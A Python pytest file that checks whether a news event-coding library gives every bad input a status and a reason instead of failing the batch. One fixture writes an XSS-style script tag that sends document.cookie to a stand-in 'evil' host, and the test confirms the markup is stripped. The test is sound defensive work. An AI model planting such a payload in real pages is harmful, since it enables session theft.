"""Bad input never sinks a batch: every document comes out with a status and a reason."""

from __future__ import annotations

import json
from collections import Counter

import pytest

from conftest import FIXTURE_KB, shared_path
from multipolar import api
from multipolar.ingest import read_inputs
from multipolar.runners import CodeOptions

OPTIONS = CodeOptions(kb_path=FIXTURE_KB)
GOOD = "Poland sent weapons to Ukraine on Monday, and Russia criticized Poland for it the next day."


def test_robustness_a_batch_of_hostile_inputs(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "binary.txt").write_bytes(bytes(range(256)) * 40)
    (tmp_path / "latin1.txt").write_bytes(GOOD.replace("Monday", "Montag ü").encode("latin-1"))
    (tmp_path / "german.txt").write_text("Polen schickte am Montag Waffen in die Ukraine, und "
                                         "Russland kritisierte Polen am nächsten Tag dafür scharf.",
                                         encoding="utf-8")
    (tmp_path / "huge.txt").write_text(GOOD * 20_000, encoding="utf-8")
    (tmp_path / "hostile.txt").write_text(
        f"<script>fetch('http://evil/'+document.cookie)</script><p>{GOOD}</p><iframe src=x></iframe>",
        encoding="utf-8")
    (tmp_path / "lines.jsonl").write_text("\n".join([
        json.dumps({"id": "ok", "text": GOOD}), "{broken", json.dumps({"id": "notext"}),
        json.dumps({"id": "emoji", "text": "🙂" * 500}),
    ]), encoding="utf-8")
    results = {r.doc_id: r for r in api.code([tmp_path], options=OPTIONS)}
    status = {k: (r.status, (r.reason or "").split(":")[0]) for k, r in results.items()}
    assert status == {
        "binary": ("skipped", "not text"), "empty": ("skipped", "empty"),
        "german": ("skipped", "not English"), "hostile": ("ok", ""), "huge": ("skipped", "too large"),
        "latin1": ("ok", ""), "lines:2": ("failed", "not valid JSON on line 2"),
        "notext": ("skipped", "no text"), "ok": ("ok", ""), "emoji": ("skipped", "not text"),
    }
    hostile = results["hostile"]
    assert "HTML markup removed" in hostile.meta["notes"] and "cookie" not in hostile.text
    assert any(e.type == "AID" for e in hostile.events)


@pytest.mark.slow
def test_robustness_all_news_dev_documents_get_a_status():
    path = shared_path("data", "news-dev", "president_gov_ua_zelenskyy_press_releases.csv")
    items = list(read_inputs([path]))
    assert len(items) == 980
    results = list(api.code(items, workers=2))  # the learned model makes this the slowest test
    assert len(results) == 980 and len({r.doc_id for r in results}) == 980
    counts = Counter(r.status for r in results)
    assert counts["failed"] == 0, [r.reason for r in results if r.status == "failed"][:3]
    assert counts["ok"] >= 950
    assert sum(len(r.events) for r in results) > 1000
